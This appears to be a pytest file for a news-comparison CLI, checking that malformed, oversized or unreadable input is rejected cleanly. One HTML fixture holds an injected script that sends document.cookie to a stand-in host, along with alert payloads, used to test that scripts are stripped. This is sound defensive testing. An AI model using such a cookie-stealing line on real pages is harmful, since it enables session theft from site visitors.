"""Bad input through the real command: one rejected entry and one plain line each, the rest goes on, no traceback."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from synopse.faces.cli import main

GERMAN = "Bei einem Brand in einer Lagerhalle in Ulm sind am Dienstag sieben Menschen verletzt worden.\n"
FRENCH = "Sept personnes ont été blessées mardi dans l'incendie d'un entrepôt au bord de la rivière.\n"
PAGE = """<!doctype html><html lang="de"><head><title>Brand in Ulm</title>
<script>document.title = "GEKAPERT"; fetch("https://example.org/" + document.cookie)</script>
<meta property="og:site_name" content="Donaubote"></head>
<body onload="alert('GEKAPERT')"><article><h1>Brand in Ulm</h1>
<p>Bei einem Brand in einer Lagerhalle in Ulm sind am Dienstag sieben Menschen verletzt worden.</p>
<script>alert("GEKAPERT")</script><p>Die Feuerwehr löschte die Flammen nach drei Stunden, wie sie mitteilte.</p>
<p>Der Sachschaden liegt nach Angaben der Stadt bei zwei Millionen Euro.</p></article></body></html>"""
Run = Callable[..., tuple[int, str, list[str]]]


@pytest.fixture
def run(capfdbinary: pytest.CaptureFixture[bytes]) -> Run:
    """Return what runs the command: it gives the exit code, what stands on stdout, and the lines on stderr."""

    def run_command(*arguments: object) -> tuple[int, str, list[str]]:
        code = main([str(argument) for argument in arguments])
        out, err = capfdbinary.readouterr()
        return code, out.decode(), err.decode().splitlines()

    return run_command


def make_long_line(path: Path) -> None:
    """Write a line of 50 MB that takes no room on the disk."""
    with path.open("wb") as stream:
        stream.truncate(50_000_000)


def make_long_text(path: Path) -> None:
    with path.open("wb") as stream:
        for _ in range(50):
            stream.write(b"Brand in Ulm " * 77_000)


def make_lines(path: Path, seventh: bytes) -> None:
    good = [json.dumps({"id": f"r{number}", "text": GERMAN}).encode() for number in range(1, 9)]
    path.write_bytes(b"\n".join([*good[:6], seventh, *good[7:]]) + b"\n")


BAD: dict[str, tuple[str, Callable[[Path], object], str, str]] = {
    "an empty file": ("bad.txt", lambda path: path.touch(), "bad.txt", "empty"),
    "a binary": ("bad.txt", lambda path: path.write_bytes(bytes(range(256)) * 40), "bad.txt", "binary"),
    "a picture": ("bad.txt", lambda path: path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(90)), "bad.txt", "PNG"),
    "50 MB of zeros": ("bad.txt", make_long_line, "bad.txt", "longer than a report"),
    "a line of 50 MB as text": ("bad.txt", make_long_text, "bad.txt", "longer than a report"),
    "a line of 50 MB in JSON Lines": ("bad.jsonl", make_long_text, "bad.jsonl:1", "longer than a report"),
    "an unknown language": ("bad.txt", lambda path: path.write_text(FRENCH, "utf-8"), "bad.txt", "'fr' is not known"),
    "a page without text": ("bad.html", lambda path: path.write_text("<html></html>"), "bad.html", "no text"),
    "a kind that is not read": ("bad.pdf", lambda path: path.write_bytes(b"%PDF-1.7"), "bad.pdf", "PDF"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_is_one_entry_and_one_line_and_the_rest_goes_on(name: str, run: Run, tmp_path: Path):
    file, make, entry, reason = BAD[name]
    (tmp_path / "good.txt").write_text(GERMAN, encoding="utf-8")
    make(tmp_path / file)
    code, out, err = run("compare", "--format", "json", tmp_path)
    record = json.loads(out)
    assert (code, [bad["id"] for bad in record["rejected"]]) == (1, [entry])
    assert reason in record["rejected"][0]["reason"]
    assert err == [f"rejected: {entry}: {record['rejected'][0]['reason']}"]
    assert [report["id"] for story in record["stories"] for report in story["reports"]] == ["good.txt"]


@pytest.mark.parametrize(
    ("seventh", "reason"),
    [
        (b'{"id": "r7", "text": "Bei einem Brand', "broken JSON"),
        (b'{"id": "r7", "text": "Bei einem Brand in M\xfcnchen"}', "not valid UTF-8"),
        (b'{"id": "r7", "text": "", "outlet": "Donaubote"}', "empty"),
        (b'{"id": "r7"}', "no field 'text'"),
        (b'["Bei einem Brand"]', "not an object"),
        (b"[" * 100_000, "broken JSON|nested too deeply"),
        (b'{"id": "r7", "language": "tlh", "text": "Bei einem Brand"}', "'tlh' is not known"),
    ],
    ids=["cut off", "invalid UTF-8", "without words", "without text", "a list", "nested deeply", "an unknown language"],
)
def test_a_bad_line_is_named_by_its_number(run: Run, tmp_path: Path, seventh: bytes, reason: str):
    make_lines(tmp_path / "news.jsonl", seventh)
    code, out, err = run("group", tmp_path / "news.jsonl")
    assert (code, len(out.splitlines())) == (1, 7)
    (line,) = err
    assert line.startswith("rejected: news.jsonl:7: ")
    assert any(part in line for part in reason.split("|"))


def test_text_that_is_no_utf_8_is_read_as_western_text(run: Run, tmp_path: Path):
    (tmp_path / "old.txt").write_bytes("In München sind sieben Menschen verletzt worden.".encode("latin-1"))
    code, out, err = run("compare", "--format", "json", tmp_path)
    assert (code, err) == (0, [])
    assert "München" in json.loads(out)["stories"][0]["reports"][0]["text"]


def test_a_missing_path_is_one_entry(run: Run, tmp_path: Path):
    (tmp_path / "good.txt").write_text(GERMAN, encoding="utf-8")
    missing = tmp_path / "none.txt"
    code, out, err = run("compare", "--format", "json", tmp_path / "good.txt", missing)
    assert (code, err) == (1, [f"rejected: {missing}: no such file or folder"])
    assert json.loads(out)["rejected"] == [{"id": str(missing), "reason": "no such file or folder"}]


def test_with_nothing_but_bad_input_nothing_can_be_done(run: Run, tmp_path: Path):
    for command in ("compare", "annotate", "group"):
        code, out, err = run(command, tmp_path / "none.txt")
        assert (code, out, len(err)) == (2, "", 2)
        assert err[-1] == f"synopse {command}: no report could be read"


def test_good_input_is_done_without_a_word(run: Run, tmp_path: Path):
    (tmp_path / "good.txt").write_text(GERMAN, encoding="utf-8")
    code, _, err = run("compare", tmp_path)
    assert (code, err) == (0, [])


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may read every file")
def test_a_file_without_permission_is_one_entry(run: Run, tmp_path: Path):
    for name in ("bad.txt", "good.txt"):
        (tmp_path / name).write_text(GERMAN, encoding="utf-8")
    (tmp_path / "bad.txt").chmod(0)
    code, out, err = run("compare", "--format", "json", tmp_path)
    assert (code, err) == (1, ["rejected: bad.txt: no permission to read it"])
    assert json.loads(out)["rejected"] == [{"id": "bad.txt", "reason": "no permission to read it"}]


def test_a_file_that_the_system_refuses_is_one_entry(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    for name in ("bad.txt", "good.txt"):
        (tmp_path / name).write_text(GERMAN, encoding="utf-8")
    opened = Path.open

    def refuse(path: Path, *arguments: object, **fields: object) -> object:
        if path.name == "bad.txt":
            raise PermissionError(13, "Permission denied")
        return opened(path, *arguments, **fields)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", refuse)
    code, out, err = run("compare", "--format", "json", tmp_path)
    assert (code, err) == (1, ["rejected: bad.txt: no permission to read it"])
    assert json.loads(out)["rejected"] == [{"id": "bad.txt", "reason": "no permission to read it"}]


def test_a_page_with_scripts_is_read_and_nothing_of_them_is_kept(run: Run, tmp_path: Path):
    (tmp_path / "page.html").write_text(PAGE, encoding="utf-8")
    code, out, err = run("compare", "--format", "json", tmp_path)
    record = json.loads(out)
    assert (code, err, record["rejected"]) == (0, [], [])
    (report,) = record["stories"][0]["reports"]
    assert "sieben Menschen verletzt" in report["text"]
    assert "GEKAPERT" not in out


@pytest.mark.parametrize(
    "published",
    [
        "0001-01-01",
        "0001-01-01T00:00:00+02:00",
        "9999-12-31T23:59:59-05:00",
        "soon",
    ],
)
def test_an_impossible_date_costs_no_report(run: Run, tmp_path: Path, published: str):
    text = GERMAN + "Die Straße bleibt bis zum 31. Dezember gesperrt. Am Mittwoch um 23.30 Uhr MESZ endete der Brand."
    lines = [
        {"id": "a", "text": text, "published": published},
        {"id": "b", "text": text.replace("sieben", "zwölf"), "published": "2026-03-10T18:00:00+01:00"},
    ]
    (tmp_path / "news.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    code, out, err = run("compare", "--format", "json", tmp_path)
    assert (code, err) == (0, [])
    assert len(json.loads(out)["stories"][0]["reports"]) == 2


@pytest.mark.parametrize(
    "text",
    [
        "Am 31. Dezember 9999 um 23.30 Uhr endete der Brand in Ulm. Am 1. Januar 0001 um 0.10 Uhr MESZ begann er.",
        f"In Ulm sind {'9' * 400} Menschen und {'9' * 400} Kilometer betroffen. In Ulm sind 10{'0' * 310},5 Meter weg.",
        "\x1b[31m \u202e \ufeff \ud7ff " * 20 + GERMAN,
        "„" * 500 + "(" * 500 + GERMAN,
        ".",
    ],
    ids=["the ends of the calendar", "endless numbers", "marks that act", "open brackets", "a dot"],
)
def test_odd_text_is_compared_like_any_other(run: Run, tmp_path: Path, text: str):
    for name, words in (("a.txt", text), ("b.txt", f"{text} Es waren sieben."), ("c.txt", GERMAN)):
        (tmp_path / name).write_text(words, encoding="utf-8")
    code, out, err = run("compare", "--format", "json", tmp_path)
    assert code in (0, 1)
    assert not any("Traceback" in line for line in err)
    assert json.loads(out)["stories"]
